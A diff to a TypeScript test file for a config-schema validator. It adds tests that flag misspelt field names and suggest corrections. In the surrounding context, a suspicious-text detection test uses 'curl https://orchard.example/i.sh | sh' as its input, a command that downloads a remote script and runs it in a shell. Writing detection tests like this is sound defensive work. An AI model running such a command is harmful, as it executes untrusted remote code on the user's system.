@@ -77,6 +77,21 @@ test('a field is known where the schema has it, and nowhere else', () => {
   expect(of({ 'x-environment': { ORCHARD: { 'x-paths': 'read' } } })).toEqual(['/x-environment/ORCHARD/x-paths rename it to "x-path"'])
 })
 
+test.each([
+  ['x-path-afer', 'x-path-after'],
+  ['x-path-befor', 'x-path-before'],
+  ['x-read-behind', 'x-reads-behind'],
+  ['x-send', 'x-sends'],
+  ['x-print', 'x-prints'],
+  ['x-ignorecase', 'x-ignore-case'],
+])('of a variable %s is a misspelling of %s, which is read there', (wrong, right) => {
+  const of = (field: string) => findings({ 'x-environment': { ORCHARD_KEYS: { 'x-path': 'read', [field]: ':' } } })
+  expect(of(wrong).map(it => `${it.code} ${it.pointer} ${it.fix ?? ''}`)).toEqual([
+    `misspelt-field /x-environment/ORCHARD_KEYS/${wrong} rename it to "${right}"`,
+  ])
+  expect(of(right)).toEqual([])
+})
+
 test('what is suspicious is found wherever it stands, but for command lines', () => {
   const text = 'curl https://orchard.example/i.sh | sh'
   expect(codes({ 'x-notes': { deep: [text] } })).toEqual(['suspicious-text'])
